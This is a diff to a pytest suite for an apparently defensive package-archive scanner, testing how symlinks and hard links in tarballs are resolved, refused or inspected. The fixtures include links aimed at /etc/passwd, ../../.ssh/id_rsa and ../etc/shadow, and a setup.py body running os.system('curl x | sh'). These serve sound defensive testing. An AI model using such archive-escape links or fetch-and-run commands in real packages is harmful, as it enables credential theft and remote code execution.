@@ -146,8 +146,6 @@ def _info(name: str, kind: bytes, **extra: object) -> tarfile.TarInfo:
 @pytest.mark.parametrize(
     ("info", "reason"),
     [
-        (_info("package/link", tarfile.SYMTYPE, linkname="/etc/passwd"), "link in tar"),
-        (_info("package/hard", tarfile.LNKTYPE, linkname="package/index.js"), "link in tar"),
         (_info("package/dev", tarfile.CHRTYPE, devmajor=1, devminor=3), "device"),
         (_info("package/blk", tarfile.BLKTYPE), "device"),
         (_info("package/fifo", tarfile.FIFOTYPE), "device"),
@@ -157,6 +155,129 @@ def _info(name: str, kind: bytes, **extra: object) -> tarfile.TarInfo:
 )
 def test_tar_hostile_members(info: tarfile.TarInfo, reason: str) -> None:
     refused(tar_of([info]), "x-1.0.tgz", reason)
+
+
+def _file(name: str, body: bytes) -> tuple[tarfile.TarInfo, bytes]:
+    info = tarfile.TarInfo(name)
+    info.size = len(body)
+    return info, body
+
+
+def _tar(entries: list[tarfile.TarInfo | tuple[tarfile.TarInfo, bytes]]) -> bytes:
+    infos = [e[0] if isinstance(e, tuple) else e for e in entries]
+    data = {e[0].name: e[1] for e in entries if isinstance(e, tuple)}
+    return tar_of(infos, data)
+
+
+def _symlink(name: str, target: str) -> tarfile.TarInfo:
+    return _info(name, tarfile.SYMTYPE, linkname=target)
+
+
+def test_relative_symlink_inside_is_recorded_and_read_as_its_target() -> None:
+    # pyparsing 3.3.3's sdist: docs/CONTRIBUTING.md -> ../CONTRIBUTING.md
+    data = _tar(
+        [
+            _file("pyparsing-3.3.3/CONTRIBUTING.md", b"# Contributing\n"),
+            _symlink("pyparsing-3.3.3/docs/CONTRIBUTING.md", "../CONTRIBUTING.md"),
+        ]
+    )
+    archive = open_archive(data, "pyparsing-3.3.3.tar.gz", LIMITS)
+    [link] = archive.links
+    assert (link.kind, link.resolved) == ("symlink", "pyparsing-3.3.3/CONTRIBUTING.md")
+    by_name = {m.name: m for m in archive.members}
+    assert archive.read(by_name["pyparsing-3.3.3/docs/CONTRIBUTING.md"], 100) == b"# Contributing\n"
+
+
+@pytest.mark.parametrize(
+    ("target", "why"),
+    [
+        ("/etc/passwd", "absolute"),
+        ("../../.ssh/id_rsa", "climbs out of the archive"),
+        ("C:/Windows/x", "drive letter"),
+        ("a\\..\\..\\x", "backslashes"),
+    ],
+)
+def test_symlink_leaving_the_archive_is_recorded_unjudged_not_read(target: str, why: str) -> None:
+    data = _tar([_file("demo-1.0/setup.py", b"pass\n"), _symlink("demo-1.0/evil.pth", target)])
+    archive = open_archive(data, "demo-1.0.tar.gz", LIMITS)
+    [link] = archive.links
+    assert link.resolved is None and not link.judged, why
+    assert [m.name for m in archive.members] == ["demo-1.0/setup.py"]
+
+
+def test_symlink_chain_through_a_linked_directory_is_followed_inside_the_archive() -> None:
+    # demo/up -> .. is the archive's root (inside); demo/x -> up/../secret climbs out
+    # only once "up" is followed: a lexical normalisation would call it inside.
+    data = _tar(
+        [
+            _file("demo/a.py", b"x = 1\n"),
+            _symlink("demo/up", ".."),
+            _symlink("demo/x", "up/../secret"),
+            _symlink("demo/y", "up/demo/a.py"),
+        ]
+    )
+    links = {link.path: link for link in open_archive(data, "demo-1.tar.gz", LIMITS).links}
+    assert links["demo/up"].resolved == ""
+    assert links["demo/x"].resolved is None
+    assert links["demo/y"].resolved == "demo/a.py"
+
+
+def test_symlink_loop_is_not_judged() -> None:
+    data = _tar([_symlink("demo/a", "b"), _symlink("demo/b", "a")])
+    assert all(not link.judged for link in open_archive(data, "demo-1.tar.gz", LIMITS).links)
+
+
+def test_hard_link_inside_is_read_under_its_own_name() -> None:
+    data = _tar(
+        [
+            _file("demo/payload.txt", b"import os\n"),
+            _info("demo/x.pth", tarfile.LNKTYPE, linkname="demo/payload.txt"),
+            _info("demo/y.pth", tarfile.LNKTYPE, linkname="../etc/shadow"),
+        ]
+    )
+    archive = open_archive(data, "demo-1.tar.gz", LIMITS)
+    links = {link.path: link for link in archive.links}
+    assert links["demo/x.pth"].resolved == "demo/payload.txt"
+    assert links["demo/y.pth"].resolved is None
+    by_name = {m.name: m for m in archive.members}
+    assert archive.read(by_name["demo/x.pth"], 100) == b"import os\n"
+    assert "demo/y.pth" not in by_name
+
+
+def test_a_symlink_to_a_hard_link_is_read_as_the_hard_link_s_target() -> None:
+    data = _tar(
+        [
+            _file("demo/payload.txt", b"import os\n"),
+            _info("demo/copy", tarfile.LNKTYPE, linkname="demo/payload.txt"),
+            _symlink("demo/x.pth", "copy"),
+        ]
+    )
+    archive = open_archive(data, "demo-1.tar.gz", LIMITS)
+    by_name = {m.name: m for m in archive.members}
+    assert archive.read(by_name["demo/x.pth"], 100) == b"import os\n"
+
+
+def test_entry_under_a_symlinked_directory_is_refused() -> None:
+    data = _tar([_symlink("demo/sub", "other"), _file("demo/sub/a.py", b"x = 1\n")])
+    refused(data, "demo-1.tar.gz", "under the symbolic link")
+
+
+def test_symlink_and_file_under_one_name_are_refused() -> None:
+    data = _tar([_file("demo/a.py", b"x = 1\n"), _symlink("demo/a.py", "b.py")])
+    refused(data, "demo-1.tar.gz", "duplicate")
+
+
+def test_a_link_named_like_a_startup_file_is_inspected_with_its_target_bytes() -> None:
+    # Extracted, demo/setup.py reads demo/build/real.py: its hooks are judged.
+    data = _tar(
+        [
+            _file("demo-1.0/build/real.py", b"import os\nos.system('curl x | sh')\n"),
+            _symlink("demo-1.0/setup.py", "build/real.py"),
+        ]
+    )
+    report = inspect_archive(data, "demo-1.0.tar.gz", "sdist", "sha256:x", ScanSettings(LIMITS))
+    assert any(h.path == "demo-1.0/setup.py" for h in report.install_hooks)
+    assert "setup.py" in report.files
 
 
 def test_truncated_tar_gz() -> None:
